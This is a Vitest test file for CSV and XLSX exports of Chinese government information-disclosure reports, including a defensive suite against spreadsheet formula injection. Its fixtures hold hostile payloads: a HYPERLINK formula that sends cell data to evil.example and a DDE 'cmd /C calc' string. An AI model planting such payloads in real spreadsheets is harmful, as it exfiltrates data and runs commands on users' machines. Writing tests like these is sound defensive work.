import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import seed004 from '../domain/fixtures/seed-004.json';
import seed003 from '../domain/fixtures/seed-003.json';
import { readCanonical } from '../domain/canonical';
import type { TReport } from '../domain/model';
import { flatSheets, toCsv } from './flat-tables';
import { toXlsx } from './xlsx';

const read = (data: unknown): TReport => {
  const r = readCanonical(data);
  if (!r.ok) throw new Error('bad fixture');
  return r.report;
};
const reports = [read(seed003), read(seed004)];

describe('exports', () => {
  it('flattens each table to one row per unit under the statutory cell names', () => {
    const [active, applications, litigation] = flatSheets(reports);
    expect(active.header.slice(0, 3)).toEqual(['机关', '年度', '第二十条第（一）项 / 规章 / 本年制发件数']);
    expect(applications.header).toHaveLength(2 + 25 * 7);
    expect(applications.header[2 + 23 * 7 + 6]).toBe('三、本年度办理结果 / （七）总计 / 总计');
    expect(applications.rows[1][2 + 23 * 7 + 6]).toBe(57);
    expect(litigation.rows[1].slice(2)).toEqual([0, 0, 0, 0, 0, 4, 0, 1, 0, 5, 0, 0, 0, 0, 0]);
    expect(active.rows[1].at(-1)).toBe('4618.24');
  });

  it('writes CSV with a BOM and quoted fields where needed', () => {
    const csv = toCsv(reports);
    expect(csv.startsWith('\uFEFF机关,年度,')).toBe(true);
    const lines = csv.trimEnd().split('\r\n');
    expect(lines).toHaveLength(3);
    expect(lines[2].startsWith('重庆市荣昌区人民政府,2021,0,0,0,16,24,107,122133,200940,2259,4618.24,34,10,0,4,0,5,53')).toBe(true);
  });

  it('writes an XLSX that reads back with the same numbers', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(new Uint8Array(await toXlsx(reports)).buffer as ArrayBuffer);
    // One sheet per report as printed (statutory-sheet.test.ts), then the flat sheets.
    expect(book.worksheets.map((w) => w.name).slice(-3)).toEqual(['主动公开政府信息情况', '收到和处理政府信息公开申请情况', '政府信息公开行政复议、行政诉讼情况']);
    const apps = book.getWorksheet('收到和处理政府信息公开申请情况')!;
    expect(apps.getRow(3).getCell(1).value).toBe('重庆市荣昌区人民政府');
    expect(apps.getRow(3).getCell(3 + 23 * 7 + 6).value).toBe(57);
    expect(book.getWorksheet('主动公开政府信息情况')!.getRow(3).getCell(12).value).toBe(4618.24);
  });

  describe('formula injection (OWASP CSV injection, issue 11)', () => {
    // An organ named by an administrator, and a cell whose typed text reached the tables (a row written
    // before pending input existed): neither may reach a spreadsheet as a formula.
    const hostile: TReport = {
      ...reports[1],
      organ: '=HYPERLINK("http://evil.example/?"&A1,"点击")',
      tables: { ...reports[1].tables, active: { ...reports[1].tables.active, licensing: '+cmd|\' /C calc\'!A0' } },
    };
    const typedOnly: TReport = { ...reports[1], organ: '@SUM(1+1)', pendingInput: { 'active.punishment': '-2+3' } };

    it('prefixes CSV text starting with = + - @, tab or CR with a quote; pending input is not there', () => {
      const [, first, second] = toCsv([hostile, typedOnly]).trimEnd().split('\r\n');
      expect(first.startsWith('"\'=HYPERLINK(""http://evil.example/?""&A1,""点击"")",2021,')).toBe(true);
      expect(first).toContain(",'+cmd|' /C calc'!A0,");
      expect(second.startsWith("'@SUM(1+1),2021,")).toBe(true);
      expect(second).not.toContain('-2+3');
    });

    it('writes the same text into XLSX as inert strings, read back with exceljs', async () => {
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(new Uint8Array(await toXlsx([hostile, typedOnly])).buffer as ArrayBuffer);
      const active = book.getWorksheet('主动公开政府信息情况')!;
      expect(active.getRow(2).getCell(1).value).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"点击")');
      expect(active.getRow(2).getCell(9).value).toBe("'+cmd|' /C calc'!A0");
      expect(active.getRow(3).getCell(1).value).toBe("'@SUM(1+1)");
      const values = book.worksheets.flatMap((w) => w.getSheetValues().flat(2));
      expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
      expect(values).not.toContain('-2+3');
      expect(active.getRow(3).getCell(10).value).toBe(200940);
    });
  });
});
